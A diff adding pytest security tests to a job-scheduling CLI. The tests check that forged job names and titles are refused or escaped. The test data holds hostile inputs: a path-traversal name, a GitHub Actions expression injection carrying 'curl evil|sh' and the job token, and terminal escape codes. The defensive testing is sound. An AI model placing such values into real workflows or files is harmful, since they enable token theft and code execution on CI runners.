@@ -402,3 +402,112 @@ def test_a_rare_cron_and_the_end_of_the_calendar_are_said_not_crashed(
         "Error: Invalid value for --at: the 30 days from 9999-12-20T00:00:00Z pass the end of "
         "the calendar (9999-12-31)",
     )
+
+
+def forge(source: Path, target: Path, **fields: object) -> None:
+    """A job file made by hand from a compiled one: ``fields`` changed, digest and all."""
+    from hz.runtime.artifacts.canonical import canonical_json, digest_of
+
+    data = json.loads(source.read_text())
+    data.update(fields)
+    del data["digest"]
+    data["digest"] = digest_of(data)
+    target.parent.mkdir(parents=True, exist_ok=True)
+    target.write_text(canonical_json(data))
+
+
+NOT_A_NAME = (
+    "is not a job name (a lowercase slug: letters, digits and single hyphens)\n"
+    "  hint: compile the contracts again: hz compile contracts/ --out build/jobs\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("name", "shown"),
+    [
+        ("x/../../../../tmp/pwned", "'x/../../../../tmp/pwned'"),
+        ("${{ github.token }}\nrun: curl evil|sh", "'${{ github.token }}\\nrun: curl evil|sh'"),
+        ("\x1b[31mred\x07", "'\\x1b[31mred\\x07'"),
+        ("end", None),  # a slug, and a Mermaid keyword: loaded (hz graph escapes it)
+    ],
+)
+def test_a_job_file_whose_name_is_not_a_slug_is_refused(
+    cli: Cli, tmp_path: Path, name: str, shown: str | None
+) -> None:
+    """Attack on issue 26, hit 3: export wrote outside --out and into the workflow's YAML and
+    GitHub expressions from a hand-made job's name."""
+    hz = echo_space(cli, tmp_path)
+    compiled(hz, tmp_path, {"minutely": SCHEDULED["minutely"]})
+    (tmp_path / "build" / "jobs" / "minutely.job.json").rename(tmp_path / "minutely.job.json")
+    forge(tmp_path / "minutely.job.json", tmp_path / "hostile" / "one.job.json", name=name)
+    for command in (
+        ("schedules", "export", "--github", "--uses", "acme/hz@v1", "hostile", "--out", "gh"),
+        ("schedules", "list", "hostile"),
+        ("graph", "hostile"),
+        ("plan", "hostile"),
+    ):
+        done = hz(*command)
+        if shown is None:
+            assert done.returncode == 0, done.stderr
+            continue
+        assert (done.returncode, done.stderr) == (
+            2,
+            f"hz: error: hostile/one.job.json: {shown} {NOT_A_NAME}",
+        )
+    assert not (tmp_path / "tmp").exists()
+    written = sorted(p.name for p in (tmp_path / "gh").glob("*"))
+    assert written == ([] if shown else ["hz-end.yml"])
+
+
+def test_export_places_no_expression_from_a_title_and_refuses_a_directory_with_one(
+    cli: Cli, tmp_path: Path
+) -> None:
+    hz = echo_space(cli, tmp_path)
+    compiled(hz, tmp_path, {"minutely": SCHEDULED["minutely"]})
+    job = tmp_path / "build" / "jobs" / "minutely.job.json"
+    forge(job, job, title="${{ github.token }}\nrun: curl evil|sh")
+    done = hz("schedules", "export", "--github", "--uses", "acme/hz@v1", "--out", "gh")
+    assert done.returncode == 0, done.stderr
+    text = (tmp_path / "gh" / "hz-minutely.yml").read_text()
+    assert text.count("${{") == 1  # the one hz writes: ${{ secrets.HZ_CONFIG }}
+    assert "curl" not in text
+    odd = tmp_path / "${{ github.token }}"
+    odd.mkdir()
+    forge(job, odd / "minutely.job.json")
+    refused = hz("schedules", "export", "--github", "--uses", "acme/hz@v1", str(odd.name))
+    assert (refused.returncode, refused.stderr.splitlines()[-1]) == (
+        2,
+        "Error: Invalid value for DIRECTORY: '${{ github.token }}': a directory to export from "
+        "is a plain path (letters, digits and _ . @ + / -)",
+    )
+
+
+def test_two_job_files_of_one_name_and_a_cycle_are_refused(cli: Cli, tmp_path: Path) -> None:
+    """Hits 10 and 9: a name counted once per file; two job files that follow each other ran
+    after each other forever on the worker (the compiler's checks, redone on loading)."""
+    hz = echo_space(cli, tmp_path)
+    compiled(hz, tmp_path, {"minutely": SCHEDULED["minutely"]})
+    job = tmp_path / "build" / "jobs" / "minutely.job.json"
+    forge(job, tmp_path / "dup" / "minutely.job.json")
+    forge(job, tmp_path / "dup" / "copy.job.json")
+    for command in (("plan", "dup"), ("graph", "dup"), ("worker", "--schedules", "dup")):
+        done = hz(*command)
+        assert done.returncode == 2
+        assert done.stderr.endswith(  # the worker says it started first
+            "hz: error: dup/copy.job.json and dup/minutely.job.json are both job minutely "
+            "[HZ601]\n  hint: two contracts with one name do not compile: keep one of the files\n",
+        )
+    forge(job, tmp_path / "cyc" / "ping.job.json", name="ping", after=["pong"])
+    forge(job, tmp_path / "cyc" / "pong.job.json", name="pong", after=["ping"])
+    forge(job, tmp_path / "lost" / "pong.job.json", name="pong", after=["ping"])
+    for command in (("graph", "cyc"), ("worker", "--schedules", "cyc")):
+        done = hz(*command)
+        assert (done.returncode, done.stderr.splitlines()[-2]) == (
+            2,
+            "hz: error: job ping in cyc depends on itself: ping <- pong <- ping [HZ611]",
+        )
+    lost = hz("worker", "--schedules", "lost")
+    assert (lost.returncode, lost.stderr.splitlines()[-2]) == (
+        2,
+        "hz: error: job pong follows or reads job ping, which is not in lost [HZ610]",
+    )
